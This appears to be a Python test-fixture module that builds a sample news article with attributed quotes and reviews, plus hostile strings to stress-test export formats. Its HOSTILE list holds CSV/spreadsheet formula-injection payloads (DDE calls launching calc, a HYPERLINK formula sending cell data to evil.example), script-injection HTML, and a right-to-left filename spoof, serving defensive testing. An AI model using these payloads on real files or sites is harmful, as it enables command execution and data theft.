"""Articles built by hand: one with every cell, and hostile ones."""

from __future__ import annotations

import dataclasses
import io
import itertools

from sayso.export import FORMATS, Exported, write
from sayso.ledger import Reader, Review
from sayso.ledger.anchor import anchor
from sayso.ledger.lines import Line
from sayso.ledger.reviews import Verdict
from sayso.model import (
    Anonymity,
    Article,
    Certainty,
    Channel,
    Evidence,
    Figure,
    Said,
    Skipped,
    Span,
    Speaker,
    Statement,
    Time,
)

TITLE = "Depot fire 🔥 kills more than 300 cattle"
TEXT = (
    f"{TITLE}\n\n"
    "“The alarm was off,” Commander Ida Voss 🚒 told reporters on Monday. "
    "“It had been off for weeks.”\n\n"
    "An official, who feared for her job, denied that the owner had probably known. The owner, "
    "Halden Farms, said it lost more than 300 cattle, including 40 to 60 calves.\n"
)


def span(words: str, after: int = 0) -> Span:
    start = TEXT.index(words, after)
    return Span(start, start + len(words))


BODY = len(TITLE)
ARTICLE = Article(
    "a00000000beef",
    TEXT,
    file="clippings/depot.html",
    url="https://example.org/depot?x=1&y=2",
    title=TITLE,
    outlet="Harbour Post",
    bylines=("Ada Lind", "Bo Rask"),
    dateline="SORRANT",
    published="2026-03-03T08:00:00+01:00",
    published_from="metadata",
    language="en",
    speakers=(
        Speaker(
            "p1", "Ida Voss", ("Voss",), "person", "Commander", None, mentions=(span("Ida Voss"),)
        ),
        Speaker("p2", "An official", (), "anonymous", "official", None, (span("An official"),)),
        Speaker("p3", "Halden Farms", (), "organisation", None, None, (span("Halden Farms"),)),
        Speaker("p4", "residents", (), "group"),
    ),
    statements=(
        Statement(
            "s1",
            "direct",
            (span("Commander Ida Voss 🚒"),),
            (span("told reporters"),),
            (span("The alarm was off"), span("It had been off for weeks")),
            0.91,
            speaker="p1",
            said=Said("2026-03-02", "2026-03-02", "2026-03-02", span("Monday")),
            channel=Channel("press-conference", "Depot Radio", span("told reporters")),
            act="assert",
            certainty=Certainty("stated"),
            evidence=Evidence("none-stated"),
            times=("t1",),
        ),
        Statement(
            "s2",
            "indirect",
            (span("An official"),),
            (span("denied"),),
            (span("that the owner had probably known"),),
            0.5,
            speaker="p2",
            act="deny",
            certainty=Certainty("likely", 0.55, 0.8, span("probably")),
            evidence=Evidence("withheld", span("denied")),
            anonymity=Anonymity(span("feared for her job")),
        ),
        Statement(
            "s3",
            "indirect",
            (span("The owner, Halden Farms", BODY),),
            (span("said", BODY),),
            (span("it lost more than 300 cattle, including 40 to 60 calves", BODY),),
            0.875,
            speaker="p3",
            within="s2",
            act="assert",
            figures=("f1", "f2"),
        ),
    ),
    figures=(
        Figure(
            "f1",
            span("more than 300", BODY),
            300,
            300,
            None,
            "more-than",
            "cattle",
            span("cattle", BODY),
        ),
        Figure("f2", span("40 to 60"), None, 40, 60, "range", "calves", span("calves"), "f1"),
    ),
    times=(Time("t1", span("Monday"), "DATE", "2026-03-02", "2026-03-02", "2026-03-02"),),
    skipped=(Skipped("furniture", "share: Share this"),),
)
ADDRESS = "https://example.org/depot?x=1&y=2"
#: The same before the reviews.
AS_READ = dataclasses.replace(
    ARTICLE,
    speakers=(
        dataclasses.replace(ARTICLE.speakers[0], name="Voss", aliases=("Ida Voss",)),
        *ARTICLE.speakers[1:],
    ),
)


def review(
    number: int, author: str, verdict: Verdict, label: str, field: str | None, value: object
) -> Review:
    where = anchor(AS_READ, ADDRESS, label)
    assert where is not None
    made_at = f"2026-03-04T10:0{number}:00+00:00"
    return Review(number, made_at, author, verdict, field, value, None, "heard the tape", where)


REVIEWS = (
    review(1, "Nora Q", "correct", "p1", "name", "Ida Voss"),
    review(2, "Jon B", "confirm", "s2", None, {"act": "deny", "certainty": "likely"}),
    dataclasses.replace(review(3, "Jon B", "correct", "s3", "act", "promise"), undone_by=4),
    review(4, "Nora Q", "undo", "s3", "act", 3),
)
LINE = Line(AS_READ, REVIEWS, Reader("0.0.1", "0123456789ab"))
REVIEWED = Exported.of(LINE)

#: What begins a formula, what ends an element, what turns the line, what ends a string or a line.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"see")',
    "  +1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "\u200b=1+1",
    "harmless;=cmd|' /C calc'!A0;\"=1+1",
    "'=1+1",
    "'",
    "</script><script>alert(1)</script><!--",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "\u202eexe.gpj\u2066 \u2069",
    "a\0b\x01\x1b[31m\x7f\x85c\u2028d\u2029e",
    "line\r\nline\rline\nline",
    "\ud800half",
    "\ufeff\ufffe\uffff",
    '"quoted"",""',
    "\\u003c\\",
    "🔥" * 20_000,
    "x" * 70_000,
    "{{7*7}} ${7*7} %s %n",
    "٣٤ עברית العربية",
)


def hostile(number: int, words: str, other: str) -> Exported:
    """An article of which every text is the one or the other."""
    text = f"{words}\n\n{other} {words}"
    whole, first = Span(0, len(text)), Span(0, len(words))
    said = Span(len(words) + 2, len(text))
    article = Article(
        f"a{number}",
        text,
        file=words,
        url=words,
        title=words,
        outlet=other,
        bylines=(words, other),
        dateline=words,
        published="2026-03-03",
        published_from="metadata",
        language="en",
        speakers=(
            Speaker("p1", words, (other,), "person", words, other, (first,)),
            Speaker("p2", other, (words,), "organisation", words, other, (first,)),
            Speaker("p3", words, (), "document"),
        ),
        statements=tuple(
            Statement(
                f"s{each}",
                "direct",
                (first,),
                (said,),
                (whole, first),
                0.5,
                speaker=f"p{each}",
                said=Said(words, None, None, first),
                channel=Channel("unknown", words, first),
                act="assert",
                certainty=Certainty("likely", None, None, first),
                evidence=Evidence("offered", first),
                anonymity=Anonymity(first),
                figures=("f1",),
                times=("t1",),
            )
            for each in (1, 2, 3)
        ),
        figures=(Figure("f1", first, 10**40, -5, None, "exact", words, whole),),
        times=(Time("t1", first, "DATE", words),),
        skipped=(Skipped("furniture", words, first),),
    )
    where = anchor(article, words, "s1")
    assert where is not None
    made_at = "2026-03-04T10:00:00+00:00"
    by = Review(1, made_at, words, "correct", "channel_name", other, words, words, where)
    return Exported.of(Line(article, (by,)))


ALL_HOSTILE = tuple(
    hostile(number, *pair) for number, pair in enumerate(itertools.pairwise((*HOSTILE, HOSTILE[0])))
)
#: Those that are quick to write.
SHORT = tuple(each for each in ALL_HOSTILE if len(each.article.text) < 10_000)


def exported(name: str, *articles: Exported) -> bytes:
    """The bytes of a format that is a stream."""
    out = io.BytesIO()
    write(articles, FORMATS[name], "-", stdout=out)
    return out.getvalue()
